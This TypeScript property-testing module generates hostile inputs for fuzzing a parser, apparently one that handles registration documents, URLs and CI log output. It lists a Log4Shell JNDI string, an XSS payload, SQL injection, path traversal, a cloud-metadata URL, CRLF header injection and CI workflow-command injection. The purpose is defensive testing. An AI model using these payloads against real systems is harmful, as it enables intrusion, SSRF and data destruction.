import fc from 'fast-check';

/** What must never be in an error, however it came in. */
export const CANARY = 'canary-5up3r-s3cret';

/** Texts that meant something bad to somebody once. */
const NASTY: readonly string[] = [
  '',
  ' ',
  '\u0000',
  '\r\n::error::pwned',
  '::add-mask::a',
  '##[error]pwned',
  '::set-output name=a::b',
  '%0A::warning::pwned',
  '\u2028::stop-commands::x',
  '\u202Egpj.exe',
  '\uFEFF',
  '\uD800',
  'a\uDC00b',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '${jndi:ldap://evil.example}',
  '${url}',
  '$${',
  '${',
  '{{a}}',
  '<img src=x onerror=alert(1)>',
  '[a](https://evil.example)',
  '../../etc/passwd',
  '..%2f..%2f',
  "'; DROP TABLE registrations; --",
  'https://evil.example/',
  'http://127.0.0.1:1/',
  'https://user:password@as.example/',
  'https://as.example@evil.example/',
  'https://as.example\\@evil.example/',
  'https://as.examp\u217Ce/',
  'https://\u212Aey.example/',
  'https://xn--80ak6aa92e.com/',
  'https://169.254.169.254/latest/meta-data/',
  'https://[::ffff:127.0.0.1]/',
  'javascript:alert(1)',
  'data:text/html,x',
  'file:///etc/passwd',
  '//evil.example',
  'https://as.example/\r\nX-Injected: 1',
  '9007199254740993',
  '1e999',
  '-1',
  'NaN',
  'true',
  'null',
  '[]',
  '2026-01-01T00:00:00Z',
];

const NAMES: readonly string[] = ['__proto__', 'constructor', 'prototype', 'toString', 'length', '', '0', '\r\n::x::'];

export const nastyText: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...NASTY) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.constantFrom('a', '\u0000', '/', '.', '\\', ' ', '"').map((text) => text.repeat(20_000)) },
  {
    weight: 1,
    arbitrary: fc.tuple(fc.constantFrom(...NASTY), fc.constantFrom(...NASTY)).map((texts) => texts.join('')),
  },
);

/** JSON that is nested deeper than a call stack is deep. */
function deep(levels: number, kind: 'list' | 'object'): unknown {
  let value: unknown = 'bottom';
  for (let level = 0; level < levels; level += 1) value = kind === 'list' ? [value] : { a: value };
  return value;
}

const nastyName = fc.oneof(fc.constantFrom(...NAMES), fc.string({ maxLength: 8 }));

/** Any JSON value, most of them bad. Objects can have an own member `__proto__`, as JSON.parse makes it. */
const nastyJson: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    nastyText,
    fc.constantFrom<unknown>(null, true, false, 0, -0, -1, 1.5, 2 ** 53, -(2 ** 63), 1e300, 253402300800, [], {}),
    fc.array(tie('value'), { maxLength: 4 }),
    fc.array(fc.tuple(nastyName, tie('value')), { maxLength: 4 }).map((members) => Object.fromEntries(members)),
    fc.constantFrom(deep(30, 'list'), deep(3_000, 'object'), deep(3_000, 'list')),
  ),
})).value;

type Place = readonly string[];

type Change =
  | { readonly kind: 'put'; readonly value: unknown }
  | { readonly kind: 'remove' }
  | { readonly kind: 'wrap' }
  | { readonly kind: 'add'; readonly name: string; readonly value: unknown };

const change: fc.Arbitrary<Change> = fc.oneof(
  { weight: 5, arbitrary: fc.record({ kind: fc.constant('put' as const), value: nastyJson }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('remove' as const) }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('wrap' as const) }) },
  { weight: 2, arbitrary: fc.record({ kind: fc.constant('add' as const), name: nastyName, value: nastyJson }) },
);

function placesIn(value: unknown, at: Place = []): readonly Place[] {
  if (typeof value !== 'object' || value === null) return [at];
  return [at, ...Object.entries(value).flatMap(([name, member]) => placesIn(member, [...at, name]))];
}

function changed(value: unknown, [name, ...rest]: Place, how: Change): unknown {
  if (name !== undefined) {
    if (typeof value !== 'object' || value === null) return value;
    const entries = Object.entries(value).flatMap(([member, inner]): [string, unknown][] => {
      if (member !== name) return [[member, inner]];
      return rest.length === 0 && how.kind === 'remove' ? [] : [[member, changed(inner, rest, how)]];
    });
    return Array.isArray(value) ? entries.map(([, inner]) => inner) : Object.fromEntries(entries);
  }
  switch (how.kind) {
    case 'put':
      return how.value;
    case 'wrap':
      return [value];
    case 'add':
      return typeof value === 'object' && value !== null && !Array.isArray(value)
        ? Object.fromEntries([...Object.entries(value), [how.name, how.value]])
        : [value, how.value];
    case 'remove':
      return null;
  }
}

/** The document with up to four of its places changed for the worse: structure-aware, so that it gets past first looks. */
export function spoilt(document: unknown): fc.Arbitrary<unknown> {
  const places = placesIn(document);
  return fc
    .array(fc.tuple(fc.constantFrom(...places), change), { minLength: 1, maxLength: 4 })
    .map((changes) => changes.reduce((value, [at, how]) => changed(value, at, how), document));
}

/** A text with pieces of it cut out, repeated, or replaced by something nasty. */
export function spoiltText(text: string): fc.Arbitrary<string> {
  const at = fc.nat({ max: text.length });
  const cut = fc.tuple(at, at, fc.oneof(nastyText, fc.constant(''), fc.constant(undefined)));
  return fc.array(cut, { minLength: 1, maxLength: 4 }).map((cuts) =>
    cuts.reduce((written, [one, other, put]) => {
      const [from, to] = one < other ? [one, other] : [other, one];
      const between = written.slice(from, to);
      return written.slice(0, from) + (put ?? between + between) + written.slice(to);
    }, text),
  );
}

/** What a server sends for a document: usually the document made worse, sometimes something else altogether. */
export function nastyBody(document: unknown): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 8, arbitrary: spoilt(document).map((value) => JSON.stringify(value)) },
    { weight: 2, arbitrary: spoiltText(JSON.stringify(document)) },
    { weight: 1, arbitrary: nastyJson.map((value) => JSON.stringify(value)) },
    { weight: 1, arbitrary: nastyText },
    { weight: 1, arbitrary: fc.constantFrom('['.repeat(200_000), '{"a":'.repeat(100_000), '<a>'.repeat(50_000)) },
  );
}
